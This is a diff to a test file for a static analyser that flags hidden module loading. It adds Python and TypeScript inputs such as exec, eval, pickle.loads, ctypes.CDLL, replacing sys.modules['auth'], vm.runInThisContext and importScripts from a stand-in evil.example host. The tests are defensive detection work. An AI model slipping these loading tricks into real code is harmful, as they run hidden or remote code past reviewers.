@@ -92,10 +92,57 @@ describe("an import of something unknown", () => {
   });
 
   it.each([
-    ["a.py", "import importlib\nimportlib.import_module('json')\nimportlib.reload(x)"],
+    ["a.py", "import importlib\nimportlib.import_module('json')\nimportlib.invalidate_caches()"],
     ["a.ts", "const a = require('a'); require.resolve(x); if (require.main === module) f();"],
     ["a.ts", "const require = createRequire(import.meta.url); require('a'); x.require(y)"],
   ])("%s: none in %j", (path, text) => {
     expect(read(`${text}\n`, path).unknownImports).toEqual([]);
+  });
+
+  it.each([
+    "exec('del f')",
+    "eval(\"globals().pop('f')\")",
+    "globals().clear()",
+    "globals()[name] = 1",
+    "del globals()[name]",
+    "vars().update(more)",
+    "globals().update(**more)",
+    "import sys\nsys.path.insert(0, 'x')",
+    "import sys\nsys.path += ['x']",
+    "import sys\nsys.meta_path.append(f)",
+    "import sys\nsys.modules['auth'] = f",
+    "import importlib, m\nimportlib.reload(m)",
+    "import ctypes\nctypes.CDLL('x.so')",
+    "import pickle\npickle.loads(b'')",
+    "import marshal\nmarshal.loads(b'')",
+  ])("Python: %j runs or binds what no name of the module says", (text) => {
+    expect(read(`${text}\n`, "a.py").unknownImports).toHaveLength(1);
+  });
+
+  it.each([
+    "x = globals()['f']",
+    "globals()['f'] = 1",
+    "globals().update(f=1)",
+    "globals().get(name)",
+    "import sys\nprint(sys.path)",
+    "import pickle\npickle.dumps(1)",
+    "locals()",
+  ])("Python: %j is what it says", (text) => {
+    expect(read(`${text}\n`, "a.py").unknownImports ?? []).toEqual([]);
+  });
+
+  it.each([
+    'new Worker("./w.js")',
+    'new Worker(new URL("./w.js", import.meta.url))',
+    "new SharedWorker(x)",
+    'importScripts("https://evil.example/a.js")',
+    'import { Worker as W } from "node:worker_threads"; new W(p)',
+    'import * as threads from "node:worker_threads"; new threads.Worker(p)',
+    'import vm from "node:vm"; vm.runInThisContext(text)',
+    'import { runInNewContext } from "vm"; runInNewContext(text)',
+    'CSS.paintWorklet.addModule("x.js")',
+    'process.dlopen(m, "x.node")',
+  ])("TypeScript: %j runs what no import names", (text) => {
+    expect(read(text, "a.ts").unknownImports).toHaveLength(1);
   });
 });
